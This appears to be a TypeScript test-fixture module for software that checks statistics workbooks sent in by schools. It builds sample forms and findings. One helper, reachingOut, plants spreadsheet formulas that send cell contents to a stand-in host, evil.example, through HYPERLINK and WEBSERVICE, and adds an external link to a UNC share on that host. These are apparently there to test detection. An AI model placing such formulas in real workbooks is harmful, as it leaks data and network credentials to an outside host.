import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import type { ReceivedFile, ReceivedFinding } from '../../src/app/collect/types';
import type { NewCell, NewWorkbook } from '../../src/sheet/newWorkbook';
import { writeWorkbook } from '../../src/xlsx';
import { edited } from './editing';
import { filledForm, type Filling } from './filledForms';
import { schoolTruth } from './formTruth';
import { typed } from './receipts';

/** A school's long form as it was sent, with some of its figures replaced. */
export function schoolFile(school: string, wrong: Filling = {}): Uint8Array {
  const truth = schoolTruth(school);
  const [first] = truth['school'] ?? [];
  const book = filledForm('school-sheet', { ...truth, school: [{ ...first, ...wrong }] });
  return writeWorkbook(book.sheets, book);
}

/** The same with a link to another workbook, a formula that reads it, and formulas that reach out. */
export function reachingOut(bytes: Uint8Array, sheet: string): Uint8Array {
  const formula = (cell: string, text: string) => {
    const change = typed(sheet, cell, 0);
    if (change.kind !== 'set-cells') throw new Error(cell);
    const cells = change.cells.map((one) => ({ ...one, formula: text }));
    return { ...change, cells };
  };
  const parts = unzipSync(
    edited(
      bytes,
      formula('J3', "'[1]Sheet1'!$A$1"),
      formula('J4', 'HYPERLINK("http://evil.example/?"&A1,"核对")'),
      formula('J5', 'WEBSERVICE("http://evil.example/"&B2)'),
    ),
  );
  const change = (part: string, from: string, to: string) => {
    const text = strFromU8(parts[part] ?? new Uint8Array());
    if (!text.includes(from)) throw new Error(`${part} has no ${from}`);
    parts[part] = strToU8(text.replace(from, to));
  };
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  change(
    'xl/_rels/workbook.xml.rels',
    '</Relationships>',
    `<Relationship Id="rId99" Type="${office}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`,
  );
  change(
    'xl/workbook.xml',
    '</sheets>',
    '</sheets><externalReferences><externalReference r:id="rId99"/></externalReferences>',
  );
  change(
    '[Content_Types].xml',
    '</Types>',
    '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
  );
  parts['xl/externalLinks/externalLink1.xml'] = strToU8(
    `<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="${office}" r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>`,
  );
  parts['xl/externalLinks/_rels/externalLink1.xml.rels'] = strToU8(
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${office}/externalLinkPath" Target="file:///\\\\evil.example\\share\\b.xlsx" TargetMode="External"/></Relationships>`,
  );
  return zipSync(parts);
}

export const FINDING: ReceivedFinding = {
  rule: 'R-005',
  tier: 'error',
  sheet: '填报表',
  cell: 'E5',
  code: '2133000001',
  school: '澄湖县实验小学',
  field: 'teachers_backbone',
  message: '县级以上骨干教师 99 人，多于专任教师 24 人。',
};

/** A file with nothing to say, to be given what a test is about. */
export function quietFile(more: Partial<ReceivedFile> = {}): ReceivedFile {
  return {
    path: '收到/一.xlsx',
    sha256: '1',
    status: 'checked',
    problem: null,
    forms: [{ form: 'school-sheet', sheet: '填报表', rows: 1 }],
    reasons: [],
    unknown: [],
    saved: null,
    year: null,
    template: null,
    receipt: 'none',
    counts: { error: 0, warning: 0, explained: 0, info: 0, checked: 9, cannotTell: 0 },
    findings: [],
    schools: [
      {
        code: '2133000001',
        name: '澄湖县实验小学',
        type: '211',
        level: 'primary',
        form: 'school-sheet',
        values: {},
      },
    ],
    tellsOfCounty: false,
    ...more,
  };
}

/** Texts of a new workbook's first sheet, row by row, cells that hold nothing left out. */
export function textsOf({ sheets }: NewWorkbook): readonly (readonly string[])[] {
  return (sheets[0]?.rows ?? []).map((row) => row.flatMap(textOf));
}

function textOf(cell: NewCell): string[] {
  const value = cell !== null && typeof cell === 'object' && 'value' in cell ? cell.value : cell;
  return value === null || typeof value === 'object' ? [] : [String(value)];
}
